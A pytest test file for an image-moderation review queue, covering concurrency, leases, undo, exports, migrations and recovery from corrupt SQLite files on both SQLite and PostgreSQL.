"""The review queue (``nsfw_core.state.review``), the same cases on SQLite and on PostgreSQL.

SQLite runs on a temporary file.  PostgreSQL runs on a real server on
127.0.0.1: ``NSFW_TEST_DATABASE_URL`` when set (CI service, or
``scripts/start-postgres.sh start``), otherwise this module starts one with
``scripts/start-postgres.sh`` (installing Debian's ``postgresql`` when missing)
and stops it at the end.  When that fails the PostgreSQL cases *error*; set
``NSFW_TEST_SKIP_POSTGRES=1`` to skip them instead.  Each case gets its own
PostgreSQL schema (``search_path``), so the cases do not see each other.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import sqlite3
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path
from typing import IO

import pytest

from nsfw_core.base.errors import BadRequest
from nsfw_core.base.settings import CLASS_NAMES, ReviewConfig, load_settings
from nsfw_core.calibration import labelsets
from nsfw_core.state.db import _SQLite
from nsfw_core.state.review import (
    CSV_COLUMNS,
    DB_FILE,
    MIGRATIONS,
    VERSION_TABLE,
    InvalidLabel,
    ItemNotFound,
    ReviewConfigError,
    ReviewConflict,
    ReviewQueue,
    ReviewUnavailable,
    backend_for,
    image_suffix,
    redact_url,
    should_queue,
)
from tests.helpers.paths import REFERENCE, ROOT

SCORES = {"drawings": 0.05, "hentai": 0.05, "neutral": 0.5, "porn": 0.2, "sexy": 0.2}
MODEL = "MobileNetV2Mid"


def sha(n: int | str) -> str:
    return hashlib.sha256(str(n).encode()).hexdigest()


class Clock:
    """An injectable clock, seconds since the epoch."""

    def __init__(self, start: float = 1_700_000_000.0) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


# ---------------------------------------------------------------- PostgreSQL server


# ---------------------------------------------------------------- queues on both backends


class Backend:
    """Opens queues on one database (same URL / folder each time)."""

    def __init__(self, name: str, url: str | None, data_dir: Path, clock: Clock) -> None:
        self.name, self.url, self.data_dir, self.clock = name, url, data_dir, clock
        self.opened: list[ReviewQueue] = []

    def open(self, **kwargs) -> ReviewQueue:
        kwargs.setdefault("clock", self.clock)
        q = ReviewQueue(self.url, data_dir=self.data_dir, **kwargs)
        self.opened.append(q)
        return q

    def close_all(self) -> None:
        for q in self.opened:
            q.close()


@pytest.fixture(params=["sqlite", "postgresql"])
def backend(request, tmp_path):
    url = request.getfixturevalue("postgres_url") if request.param == "postgresql" else None
    b = Backend(request.param, url, tmp_path / "data", Clock())
    yield b
    b.close_all()


@pytest.fixture
def q(backend) -> ReviewQueue:
    queue: ReviewQueue = backend.open()
    return queue


def add(q: ReviewQueue, n: int | str, source: str | None = None, image: bytes | None = None, **kw) -> int:
    return q.enqueue(sha(n), source or f"https://example.com/{n}.jpg", kw.pop("scores", SCORES), MODEL,
                     kw.pop("verdict", "unknown"), image_bytes=image)


# ---------------------------------------------------------------- enqueue


def test_enqueue_dedupes_while_open_and_requeues_after_decision(q, backend):
    a = add(q, 1)
    assert add(q, 1, source="upload:other.jpg") == a  # same image, still pending
    assert q.counts() == {"pending": 1, "claimed": 0, "decided": 0, "total": 1}
    assert q.claim("r1").id == a
    assert add(q, 1) == a  # claimed is still open
    q.decide(a, "r1", "safe")
    b = add(q, 1)
    assert b != a  # decided: a new review item
    assert q.counts() == {"pending": 1, "claimed": 0, "decided": 1, "total": 2}
    item = q.get(a)
    assert item.sha256 == sha(1) and item.source == "https://example.com/1.jpg" and item.model == MODEL
    assert item.scores == SCORES and item.verdict == "unknown" and item.status == "decided"


def test_enqueue_validates(q):
    with pytest.raises(BadRequest):
        q.enqueue("not-a-digest", "https://example.com/x.jpg", SCORES, MODEL, "unknown")
    with pytest.raises(BadRequest):
        q.enqueue(sha(1), "https://example.com/x.jpg", {"porn": 1.0}, MODEL, "unknown")
    assert q.enqueue(sha(1).upper(), "x", SCORES, MODEL, "unknown") == q.enqueue(sha(1), "x", SCORES, MODEL, "unknown")


def test_concurrent_enqueue_of_one_image_queues_it_once(backend):
    queues = [backend.open() for _ in range(6)]
    barrier = threading.Barrier(len(queues))
    ids: list[int] = []
    errors: list[BaseException] = []

    def work(q: ReviewQueue) -> None:
        try:
            barrier.wait()
            for n in range(10):
                ids.append(add(q, f"same-{n}"))
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(q,)) for q in queues]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors, errors
    assert len(ids) == 60 and len(set(ids)) == 10
    assert queues[0].counts()["pending"] == 10


# ---------------------------------------------------------------- claim


def test_claim_order_and_lease_expiry(backend):
    clock = backend.clock
    q = backend.open(lease_seconds=60)
    ids = []
    for n in range(3):
        ids.append(add(q, n))
        clock.advance(1)
    a = q.claim("r1")
    assert (a.id, a.status, a.claimed_by, a.lease_until) == (ids[0], "claimed", "r1", clock.now + 60)
    assert q.claim("r2").id == ids[1]
    assert q.counts() == {"pending": 1, "claimed": 2, "decided": 0, "total": 3}
    clock.advance(61)  # both leases ran out: pending again, oldest first
    assert q.counts() == {"pending": 3, "claimed": 0, "decided": 0, "total": 3}
    again = q.claim("r3", lease_seconds=5)
    assert again.id == ids[0] and again.claimed_by == "r3" and again.lease_until == clock.now + 5
    with pytest.raises(ReviewConflict):  # r1's lease ran out and r3 holds it now
        q.decide(ids[0], "r1", "safe")
    assert q.claim("r1").id == ids[1]
    assert q.claim("r1").id == ids[2]
    assert q.claim("r1") is None
    # r2's item went to r1 after its lease: r2 can no longer decide it.
    with pytest.raises(ReviewConflict):
        q.decide(ids[1], "r2", "adult")
    # A lease that ran out with nobody else taking the item: the holder may still decide.
    clock.advance(10)
    assert q.decide(ids[0], "r3", "safe").decision == "safe"


def test_claim_with_a_real_short_lease(backend):
    q = backend.open(clock=time.time, lease_seconds=1)
    a = add(q, 1)
    assert q.claim("r1").id == a
    assert q.claim("r2") is None
    time.sleep(1.2)
    assert q.claim("r2").id == a


def test_claim_exclude_and_validation(q):
    a, b = add(q, 1), add(q, 2)
    assert q.claim("r1", exclude=[a]).id == b
    assert q.claim("r2", exclude=[a, b]) is None
    with pytest.raises(BadRequest):
        q.claim("  ")
    with pytest.raises(BadRequest):
        q.claim("r1", lease_seconds=0)


def test_two_reviewers_at_once_never_get_the_same_item(backend):
    setup = backend.open()
    n = 60
    all_ids = {add(setup, i) for i in range(n)}
    queues = [backend.open(clock=time.time) for _ in range(4)]
    barrier = threading.Barrier(len(queues))
    claimed: dict[str, list[int]] = {}
    errors: list[BaseException] = []

    def review(name: str, q: ReviewQueue) -> None:
        mine: list[int] = []
        claimed[name] = mine
        try:
            barrier.wait()
            while (item := q.claim(name)) is not None:
                mine.append(item.id)
                q.decide(item.id, name, "safe" if item.id % 2 else "adult")
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=review, args=(f"reviewer-{i}", q)) for i, q in enumerate(queues)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert not errors, errors
    got = [i for ids in claimed.values() for i in ids]
    assert sorted(got) == sorted(all_ids)  # every item exactly once
    assert setup.counts() == {"pending": 0, "claimed": 0, "decided": n, "total": n}
    by = {it.id: it.decided_by for it in setup.reviewed_items()}
    for name, ids in claimed.items():
        assert all(by[i] == name for i in ids)


_WORKER = """
import json, os, sys, time
from nsfw_core.state.review import ReviewQueue
url, data_dir, name, gate = sys.argv[2] or None, sys.argv[3], sys.argv[4], sys.argv[5]
scores = {"drawings": 0.2, "hentai": 0.2, "neutral": 0.2, "porn": 0.2, "sexy": 0.2}
def wait(path):
    while not os.path.exists(path):
        time.sleep(0.005)
q = ReviewQueue(url, data_dir=data_dir)
wait(gate + ".enqueue")
ids = [q.enqueue(format(n, "064x"), "https://example.com/%d.jpg" % n, scores, "m", "unknown") for n in range(30)]
print(json.dumps(ids), flush=True)
wait(gate + ".claim")
claimed = []
while (item := q.claim(name)) is not None:
    claimed.append(item.id)
    q.decide(item.id, name, "safe")
print(json.dumps(claimed), flush=True)
"""


def _pipes(p: subprocess.Popen[str]) -> tuple[IO[str], IO[str]]:
    """A worker's stdout and stderr (both pipes)."""
    assert p.stdout is not None and p.stderr is not None
    return p.stdout, p.stderr


def test_separate_processes_enqueue_and_claim_without_races(backend, tmp_path):
    gate = str(tmp_path / "gate")
    backend.open().close()  # schema ready (concurrent first opens are tested above)
    procs = [subprocess.Popen([sys.executable, "-c", _WORKER, str(ROOT), backend.url or "", str(backend.data_dir),
                               f"proc-{i}", gate], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for i in range(3)]
    try:
        Path(gate + ".enqueue").touch()
        enqueued = [json.loads(_pipes(p)[0].readline() or "null") for p in procs]
        assert all(e is not None for e in enqueued), [_pipes(p)[1].read() for p in procs]
        assert enqueued[0] == enqueued[1] == enqueued[2] and len(set(enqueued[0])) == 30  # each image once
        Path(gate + ".claim").touch()
        claimed = [json.loads(_pipes(p)[0].readline() or "null") for p in procs]
        assert all(c is not None for c in claimed), [_pipes(p)[1].read() for p in procs]
    finally:
        for p in procs:
            try:
                p.wait(60)
            except subprocess.TimeoutExpired:
                p.kill()
            _pipes(p)[0].close()
            _pipes(p)[1].close()
    got = [i for c in claimed for i in c]
    assert sorted(got) == sorted(enqueued[0])  # every item claimed exactly once across processes


# ---------------------------------------------------------------- decide, skip, release, undo


def test_decide(q, backend):
    a, b, c = add(q, 1), add(q, 2), add(q, 3)
    item = q.claim("r1")
    with pytest.raises(InvalidLabel):
        q.decide(item.id, "r1", "maybe")
    with pytest.raises(ReviewConflict):
        q.decide(item.id, "r2", "safe")  # claimed by r1
    backend.clock.advance(2)
    done = q.decide(item.id, "r1", " Drawing ")
    assert (done.status, done.decision, done.decided_by, done.decided_at) == ("decided", "drawings", "r1",
                                                                               backend.clock.now)
    assert done.claimed_by is None and done.lease_until is None
    with pytest.raises(ReviewConflict, match="already decided"):
        q.decide(a, "r1", "adult")
    with pytest.raises(ItemNotFound):
        q.decide(999_999, "r1", "adult")
    assert q.decide(b, "r2", "porn").decision == "porn"  # pending, unclaimed: may be decided directly
    for label in ("adult", "safe", *CLASS_NAMES):
        assert q.decide(add(q, f"label-{label}"), "r3", label).decision == label
    assert q.get(c).status == "pending"


def test_skip_moves_the_item_to_the_end(q, backend):
    a, b, c = add(q, 1), add(q, 2), add(q, 3)
    assert q.claim("r1").id == a
    backend.clock.advance(1)
    skipped = q.skip(a, "r1")
    assert (skipped.status, skipped.claimed_by, skipped.skips) == ("pending", None, 1)
    assert [q.claim("r1").id for _ in range(3)] == [b, c, a]
    with pytest.raises(ReviewConflict):
        q.skip(b, "r2")  # not r2's
    q.decide(b, "r1", "safe")
    with pytest.raises(ReviewConflict):
        q.skip(b, "r1")  # decided


def test_release_keeps_the_place(q, backend):
    a, _ = add(q, 1), add(q, 2)
    assert q.claim("r1").id == a
    backend.clock.advance(1)
    released = q.release(a, "r1")
    assert released.status == "pending" and released.skips == 0
    assert q.claim("r2").id == a


def test_undo(q, backend):
    a, b, c = add(q, 1), add(q, 2), add(q, 3)
    assert q.undo("r1") is None
    q.decide(q.claim("r1").id, "r1", "safe")
    backend.clock.advance(1)
    q.decide(q.claim("r1").id, "r1", "adult")
    backend.clock.advance(1)
    q.decide(q.claim("r2").id, "r2", "neutral")  # another reviewer's decision is not undone by r1
    reverted = q.undo("r1")
    assert reverted.id == b and reverted.status == "pending"
    assert reverted.decision is None and reverted.decided_by is None and reverted.decided_at is None
    assert q.counts() == {"pending": 1, "claimed": 0, "decided": 2, "total": 3}
    back = q.undo("r1", reclaim=True, lease_seconds=30)
    assert (back.id, back.status, back.claimed_by, back.lease_until) == (a, "claimed", "r1", backend.clock.now + 30)
    assert q.undo("r1") is None
    assert q.get(c).decision == "neutral"
    # r1 decides a again; b (pending again) is next.
    q.decide(a, "r1", "sexy")
    assert q.claim("r1").id == b


def test_undo_when_the_image_was_queued_again(q, backend):
    a = add(q, 1)
    q.decide(a, "r1", "safe")
    again = add(q, 1)
    assert again != a
    back = q.undo("r1")
    assert back.id == a and q.get(again) is None  # the newer open copy made way for the reverted item
    assert add(q, 1) == a
    # If someone is reviewing the newer copy right now, undo refuses.
    q.decide(a, "r1", "safe")
    newer = add(q, 1)
    assert q.claim("r2").id == newer
    with pytest.raises(ReviewConflict):
        q.undo("r1")
    assert q.get(a).status == "decided" and q.get(newer).status == "claimed"


# ---------------------------------------------------------------- counts, reads, exports


def test_counts(q):
    assert q.counts() == {"pending": 0, "claimed": 0, "decided": 0, "total": 0}
    ids = [add(q, n) for n in range(5)]
    q.claim("r1")
    q.decide(q.claim("r2").id, "r2", "safe")
    assert q.counts() == {"pending": 3, "claimed": 1, "decided": 1, "total": 5}
    assert [it.id for it in q.items("pending")] == ids[2:]


def test_reviewed_items_carry_scores_and_binary_labels(q, backend):
    scores = {"drawings": 0.1, "hentai": 0.2, "neutral": 0.3, "porn": 0.25, "sexy": 0.15}
    a = add(q, 1, scores=scores)
    b = add(q, 2, source="upload:b.png")
    c = add(q, 3)
    q.decide(a, "r1", "hentai")
    backend.clock.advance(1)
    q.decide(b, "r1", "safe")
    backend.clock.advance(1)
    q.decide(c, "r2", "drawings")
    items = q.reviewed_items()
    assert [(it.id, it.label, it.binary) for it in items] == [(a, "hentai", "adult"), (b, "safe", "safe"),
                                                               (c, "drawings", "safe")]
    first = items[0]
    assert first.scores == scores and first.model == MODEL and first.sha256 == sha(1)
    assert first.source == "https://example.com/1.jpg" and first.decided_by == "r1"
    assert first.labelled() == labelsets.LabelledItem("https://example.com/1.jpg", "hentai", "adult")
    custom = q.reviewed_items(binary_map=labelsets.make_binary_map(["porn", "sexy"]))
    assert custom[0].binary == "safe"  # hentai counted safe under this mapping


def test_export_csv(q, backend):
    scores = {"drawings": 0.125, "hentai": 0.0625, "neutral": 0.5, "porn": 0.1875, "sexy": 0.125}
    a = add(q, 1, scores=scores)
    b = add(q, 2, source="upload:b.png")
    add(q, 3)  # pending: not exported
    q.decide(a, "r1", "porn")
    backend.clock.advance(5)
    q.decide(b, "r1", "safe")
    text = q.export_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(csv.reader(io.StringIO(text)).__next__()) == CSV_COLUMNS
    assert CSV_COLUMNS == ("path", "label", "sha256", "model", "drawings", "hentai", "neutral", "porn", "sexy",
                           "decided_at")
    assert [r["path"] for r in rows] == ["https://example.com/1.jpg", "upload:b.png"]
    assert rows[0]["label"] == "porn" and rows[0]["sha256"] == sha(1) and rows[0]["model"] == MODEL
    assert {c: float(rows[0][c]) for c in CLASS_NAMES} == scores
    assert rows[0]["decided_at"] == "2023-11-14T22:13:20+00:00"
    assert rows[1]["decided_at"] == "2023-11-14T22:13:25+00:00"
    # The calibration page's manifest loader reads it (URL rows as they are).
    items = labelsets.parse_manifest(text, "csv")
    assert items[0] == labelsets.LabelledItem("https://example.com/1.jpg", "porn", "adult")
    assert items[1].label == "safe" and items[1].binary == "safe"


def test_export_zip_is_a_loadable_labelled_set(backend, tmp_path):
    q = backend.open(store_uploads=True)
    jpeg = (REFERENCE / "house.jpg").read_bytes()
    a = add(q, 1, source="upload:house.jpg", image=jpeg)
    b = add(q, 2, source="https://example.com/2.jpg")
    c = add(q, 3, source="upload:lost.jpg")  # no bytes: cannot be loaded later
    for item_id, label in ((a, "neutral"), (b, "sexy"), (c, "safe")):
        q.decide(item_id, "r1", label)
    data, summary = q.export_zip()
    assert summary == {"items": 2, "images": 1, "left_out": 1}
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert sorted(zf.namelist()) == ["images/" + sha(1) + ".jpg", "manifest.csv"]
        assert zf.read("images/" + sha(1) + ".jpg") == jpeg
    items = labelsets.load_zip(data, tmp_path / "cache")
    assert [(Path(it.source).name if not it.source.startswith("http") else it.source, it.label) for it in items] == \
        [(sha(1) + ".jpg", "neutral"), ("https://example.com/2.jpg", "sexy")]
    assert Path(items[0].source).read_bytes() == jpeg


# ---------------------------------------------------------------- retention, restart, migrations


def test_purge_deletes_old_items_and_their_images(backend):
    clock = backend.clock
    q = backend.open(store_uploads=True, retention_days=30, lease_seconds=3600)
    old = add(q, 1, image=b"\xff\xd8\xff old")
    old_claimed = add(q, 2)
    clock.advance(10 * 86400)
    young = add(q, 3, image=b"\xff\xd8\xff young")
    q.decide(old, "r1", "safe")
    clock.advance(25 * 86400)  # old: 35 days, young: 25 days
    assert q.claim("r1", exclude=[young]).id == old_claimed  # a live claim is kept until it ends
    assert q.purge(0) == 0  # 0: keep everything
    assert q.purge() == 1
    assert q.get(old) is None and q.get(old_claimed) is not None and q.get(young).image == b"\xff\xd8\xff young"
    clock.advance(3601)
    assert q.purge(30) == 1 and q.get(old_claimed) is None
    assert q.purge_if_due() == 0  # ran just now
    assert q.counts()["total"] == 1
    if backend.name == "sqlite":  # secure_delete: the purged image is not left in the file
        q.close()
        raw = b"".join(p.read_bytes() for p in backend.data_dir.glob(DB_FILE + "*"))
        assert b"\xff\xd8\xff old" not in raw and b"\xff\xd8\xff young" in raw


def test_restart_without_loss(backend):
    q = backend.open(store_uploads=True)
    a = add(q, 1, image=b"\x89PNG\r\n\x1a\nbytes")
    b = add(q, 2)
    add(q, 3)
    claimed = q.claim("r1")
    q.decide(b, "r2", "sexy")
    before = [q.get(i) for i in (a, b)]
    counts = q.counts()
    q.close()
    again = backend.open()
    assert [again.get(i) for i in (a, b)] == before
    assert again.counts() == counts
    assert again.get(claimed.id).claimed_by == "r1"
    assert again.get(a).image == b"\x89PNG\r\n\x1a\nbytes"


def _versions(backend: Backend) -> list[int]:
    if backend.name == "sqlite":
        with sqlite3.connect(backend.data_dir / DB_FILE) as conn:
            return [r[0] for r in conn.execute(f"SELECT version FROM {VERSION_TABLE} ORDER BY version")]
    import psycopg

    assert backend.url is not None  # PostgreSQL
    with psycopg.connect(backend.url) as conn:
        return [r[0] for r in conn.execute(f"SELECT version FROM {VERSION_TABLE} ORDER BY version")]


def test_migrations_are_idempotent_and_ordered(backend):
    from nsfw_core.state.review import migrate

    first = backend.open(migrations=MIGRATIONS[:1])  # an older app created the database
    assert _versions(backend) == [1]
    first.enqueue(sha(1), "https://example.com/1.jpg", SCORES, MODEL, "unknown")
    first.close()
    q = backend.open()  # this one adds the rest, keeping the data
    assert _versions(backend) == [m.version for m in MIGRATIONS]
    assert q.counts()["pending"] == 1
    backend.open()  # opening again changes nothing
    assert _versions(backend) == [m.version for m in MIGRATIONS]
    with q._connection() as conn:
        assert migrate(q.backend, conn) == []
    assert add(q, 1) == q.items()[0].id
    if backend.name == "sqlite":
        with sqlite3.connect(backend.data_dir / DB_FILE) as conn:
            names = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'index'")}
        assert {"review_items_decided", "review_items_created"} <= names


def test_a_version_merged_after_a_newer_one_is_still_applied(backend):
    """Versions are assigned to branches that merge in any order: 9 (issue 25) reached main before 8 (issue 29,
    points 5-7), so a database migrated by main is at 9 without 8.  Opening it applies 8 (it used to be skipped:
    only versions above the newest applied one ran)."""
    without_8 = tuple(m for m in MIGRATIONS if m.version != 8)
    assert len(without_8) == len(MIGRATIONS) - 1
    first = backend.open(migrations=without_8)
    add(first, 1)
    first.close()
    assert 8 not in _versions(backend)
    q = backend.open()
    assert _versions(backend) == [m.version for m in MIGRATIONS]
    item, _ = q.enqueue_for("c", sha(2), "upload", SCORES, MODEL, "unknown", key_id="key:0123456789abcdef")
    with q._tx(write=False) as tx:  # migration 8's column is there
        assert tx.one("SELECT client_key FROM review_items WHERE id = ?", (item,)) == ("key:0123456789abcdef",)
    assert q.counts()["pending"] == 2


def test_migration_10_is_applied_to_a_database_main_migrated_to_11(backend):
    """Issue 26's migration 10 (adapters, example sets, embeddings) reached main after 8, 9 and 11 (videos): a
    database main migrated is at 1-9 and 11.  Opening it applies 10, and both sides' columns work together: a
    decided video item is remembered with its media (11) and its deciding frame's embedding (10)."""
    import numpy as np

    from nsfw_core.state.adapters import Adapters
    from nsfw_core.state.known import KnownImages

    without_10 = tuple(m for m in MIGRATIONS if m.version != 10)
    first = backend.open(migrations=without_10)
    add(first, 1)
    first.close()
    assert 10 not in _versions(backend) and 11 in _versions(backend)
    q = backend.open()
    assert _versions(backend) == [m.version for m in MIGRATIONS]
    item, _ = q.enqueue_for("c", sha(2), "upload", SCORES, MODEL, "unknown", phash="ab" * 32, media="video",
                            key_id="key:0123456789abcdef")
    embedding = np.linspace(-1.0, 1.0, 1792, dtype=np.float32)
    Adapters(q.pool).save_item_embedding(item, MODEL, "v1", embedding)
    q.decide(item, "rev", "neutral", seen=sha(2))
    match = KnownImages(q.pool).lookup(sha(2), None)
    assert match is not None and (match.review_id, match.embedded, match.model_version) == (item, True, "v1")
    with q._tx(write=False) as tx:
        assert tx.one("SELECT media, embedding <> '' FROM known_images WHERE review_id = ?", (item,)) in (
            ("video", 1), ("video", True))
    assert q.counts()["pending"] == 1


def test_concurrent_first_open_migrates_once(backend):
    errors: list[BaseException] = []
    barrier = threading.Barrier(4)

    def open_one() -> None:
        try:
            barrier.wait()
            backend.open()
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=open_one) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors, errors
    assert _versions(backend) == [m.version for m in MIGRATIONS]


def test_a_newer_schema_is_refused(backend):
    from nsfw_core.state.review import Migration

    backend.open(migrations=(*MIGRATIONS, Migration(99, "from the future", ()))).close()
    with pytest.raises(ReviewConfigError, match="newer"):
        backend.open()


def test_a_process_dying_mid_write_loses_nothing_committed(backend):
    q = backend.open()
    add(q, "kept")
    q.close()
    code = f"""
import os, sys
from nsfw_core.state.review import ReviewQueue, TABLE
q = ReviewQueue({backend.url!r}, data_dir={str(backend.data_dir)!r})
with q._tx() as tx:
    tx.run(f"DELETE FROM {{TABLE}}")
    tx.run(f"UPDATE {{TABLE}} SET status = 'decided'")
    os._exit(3)  # dies inside the transaction
"""
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 3, proc.stderr
    again = backend.open()
    assert again.counts() == {"pending": 1, "claimed": 0, "decided": 0, "total": 1}
    assert again.items()[0].sha256 == sha("kept")
    add(again, "after")  # and the database is writable (no lock left behind)
    assert again.counts()["pending"] == 2


# ---------------------------------------------------------------- stored uploads


def test_store_uploads_on_and_off(backend):
    jpeg = (REFERENCE / "smile.jpg").read_bytes()
    off = backend.open()
    a = add(off, 1, source="upload:smile.jpg", image=jpeg)
    item = off.get(a)
    assert item.image is None and not item.has_image
    on = backend.open(store_uploads=True)
    b = add(on, 2, source="upload:smile.jpg", image=jpeg)
    item = on.get(b)
    assert item.image == jpeg and item.has_image
    claimed = on.claim("r1", exclude=[a])
    assert claimed.id == b and claimed.image == jpeg
    assert [it.has_image for it in on.items()] == [False, True]
    assert all(it.image is None for it in on.items())  # lists do not carry the bytes
    assert on.image(b) == jpeg and on.image(a) is None


# ---------------------------------------------------------------- settings and helpers (no database needed)


def test_should_queue():
    default = load_settings(environ={}).review_config
    assert should_queue("unknown", default) and not should_queue("adult", default)
    both = load_settings(environ={"NSFW_REVIEW_VERDICTS": "unknown, adult"}).review_config
    assert should_queue("adult", both) and not should_queue("safe", both)
    assert not should_queue("unknown", load_settings(environ={"NSFW_REVIEW_VERDICTS": ""}).review_config)


def test_from_settings(tmp_path):
    settings = load_settings(environ={"NSFW_DATA_DIR": str(tmp_path)})
    q = ReviewQueue.from_settings(settings)
    assert q.backend_name == "sqlite" and (tmp_path / DB_FILE).exists()
    assert (q.store_uploads, q.lease_seconds, q.retention_days) == (False, 300, 30)
    q.close()
    config = ReviewConfig(data_dir=str(tmp_path), database_url="sqlite:other.db", store_uploads=True,
                          lease_seconds=5, retention_days=0, verdicts=("unknown",))
    q = ReviewQueue.from_config(config)
    assert (tmp_path / "other.db").exists() and (q.store_uploads, q.lease_seconds, q.retention_days) == (True, 5, 0)
    q.close()
    with sqlite3.connect(tmp_path / DB_FILE) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def _sqlite_path(url: str, data_dir: Path) -> Path:
    backend = backend_for(url, data_dir)
    assert isinstance(backend, _SQLite)
    return backend.path


def test_backend_urls(tmp_path):
    assert _sqlite_path("", tmp_path) == tmp_path / DB_FILE
    assert _sqlite_path("sqlite:////abs/q.db", tmp_path) == Path("/abs/q.db")
    assert _sqlite_path("sqlite:///abs/q.db", tmp_path) == Path("/abs/q.db")
    assert _sqlite_path("sqlite:rel/q.db", tmp_path) == tmp_path / "rel" / "q.db"
    assert backend_for("postgresql://u:secret@db:5432/x").name == "postgresql"
    assert backend_for("postgres://u@db/x").sql("a = ? AND b = ?") == "a = %s AND b = %s"
    with pytest.raises(ReviewConfigError) as err:
        backend_for("mysql://u:secret@db/x")
    assert "secret" not in str(err.value)
    assert redact_url("postgresql://u:secret@db:5432/x") == "postgresql://u:***@db:5432/x"
    assert redact_url("postgresql://db/x") == "postgresql://db/x"


def test_unreachable_postgres_is_a_clear_error():
    from nsfw_core.state.review import ReviewUnavailable

    with pytest.raises(ReviewUnavailable) as err:
        ReviewQueue("postgresql://u:hunter2@127.0.0.1:1/x?connect_timeout=2")
    assert err.value.status == 503 and "hunter2" not in str(err.value)


def test_image_suffix():
    assert image_suffix((REFERENCE / "house.jpg").read_bytes()) == ".jpg"
    assert image_suffix(b"\x89PNG\r\n\x1a\n....") == ".png"
    assert image_suffix(b"GIF89a...") == ".gif"
    assert image_suffix(b"RIFF\0\0\0\0WEBPVP8 ") == ".webp"


# ---------------------------------------------------------------- a corrupt SQLite database is moved aside


def sqlite_queue(data_dir: Path) -> ReviewQueue:
    return ReviewQueue(None, data_dir=data_dir, clock=Clock())


def crash_snapshot(tmp_path: Path, committed: int = 3, in_wal: int = 2) -> Path:
    """A data folder as a crash would leave it: ``committed`` items in the database file, ``in_wal`` more
    only in its ``-wal`` (copied while the writer still had it open, so never checkpointed)."""
    live = tmp_path / "live"
    q = sqlite_queue(live)
    for n in range(committed):
        add(q, n)
    with sqlite3.connect(live / DB_FILE) as conn:
        assert conn.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()[0] == 0
    for n in range(committed, committed + in_wal):
        add(q, n)
    crashed = tmp_path / "crashed"
    crashed.mkdir()
    for suffix in ("", "-wal"):
        (crashed / (DB_FILE + suffix)).write_bytes((live / (DB_FILE + suffix)).read_bytes())
    q.close()
    assert (crashed / (DB_FILE + "-wal")).stat().st_size > 32
    return crashed


def aside(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".corrupt-" in p.name)


def test_a_crash_snapshot_with_a_sound_wal_loses_nothing(tmp_path):
    crashed = crash_snapshot(tmp_path)
    q = sqlite_queue(crashed)
    assert q.counts()["pending"] == 5 and aside(crashed) == []
    q.close()


@pytest.mark.parametrize("damage", ["magic", "checksum", "page-size", "short", "garbage"])
def test_a_corrupt_wal_is_moved_aside_not_deleted(tmp_path, caplog, damage):
    crashed = crash_snapshot(tmp_path)
    wal = crashed / (DB_FILE + "-wal")
    data = bytearray(wal.read_bytes())
    if damage == "magic":
        data[0:4] = b"\0\0\0\0"
    elif damage == "checksum":
        data[16] ^= 0xFF  # salt-1: the header checksum no longer matches
    elif damage == "page-size":
        data[8:12] = (1000).to_bytes(4, "big")
    elif damage == "short":
        data = data[:20]
    else:
        data = bytearray(b"\x5a" * len(data))
    wal.write_bytes(bytes(data))
    with caplog.at_level("ERROR", logger="nsfw_core.state.review"):
        q = sqlite_queue(crashed)
    [moved] = [p for p in crashed.iterdir() if p.name.startswith(DB_FILE + "-wal.corrupt-")]
    assert moved.read_bytes() == bytes(data)  # kept byte for byte for a person to look at
    assert re.fullmatch(re.escape(DB_FILE) + r"-wal\.corrupt-\d{8}T\d{6}Z", moved.name), moved.name
    [record] = caplog.records
    assert record.levelname == "ERROR" and str(moved) in record.getMessage()
    assert "write-ahead log was corrupt" in record.getMessage()
    assert q.counts()["pending"] == 3  # what the database file held; the queue works on
    add(q, "after")
    assert q.counts()["pending"] == 4
    assert (crashed / DB_FILE).exists() and aside(crashed) == [moved.name]
    q.close()


def corrupt_pages(path: Path) -> None:
    """Overwrite every page after the first two of the database with garbage (b-tree pages)."""
    data = bytearray(path.read_bytes())
    page = int.from_bytes(data[16:18], "big")
    assert len(data) >= 4 * page, len(data)
    for start in range(2 * page, len(data), page):
        data[start:start + page] = bytes([0x0D, 0xFF]) + b"\xa5" * (page - 2)
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("damage", ["not-a-database", "pages", "truncated"])
def test_a_corrupt_database_is_moved_aside_and_a_fresh_one_started(tmp_path, caplog, damage):
    data_dir = tmp_path / "data"
    q = sqlite_queue(data_dir)
    for n in range(40):
        add(q, n, image=b"x" * 2000)
    q.close()
    path = data_dir / DB_FILE
    assert not (data_dir / (DB_FILE + "-wal")).exists() or (data_dir / (DB_FILE + "-wal")).stat().st_size == 0
    if damage == "not-a-database":
        path.write_bytes(b"this is not an SQLite file\n" * 300)
    elif damage == "pages":
        corrupt_pages(path)
    else:
        path.write_bytes(path.read_bytes()[: 4096 * 3 + 100])
    (data_dir / (DB_FILE + "-shm")).write_bytes(b"\0" * 32768)  # left over by the crash (SQLite's own: it
    # may delete it when the check's connection closes; if not, it goes aside with the database)
    before = path.read_bytes()
    with caplog.at_level("ERROR", logger="nsfw_core.state.review"):
        q = sqlite_queue(data_dir)
    moved = aside(data_dir)
    originals = {m.split(".corrupt-")[0]: m for m in moved}
    assert DB_FILE in originals and set(originals) <= {DB_FILE, DB_FILE + "-wal", DB_FILE + "-shm"}
    assert (data_dir / originals[DB_FILE]).read_bytes() == before
    [record] = caplog.records
    assert record.levelname == "ERROR"
    assert f"review database {path} is corrupt" in record.getMessage()
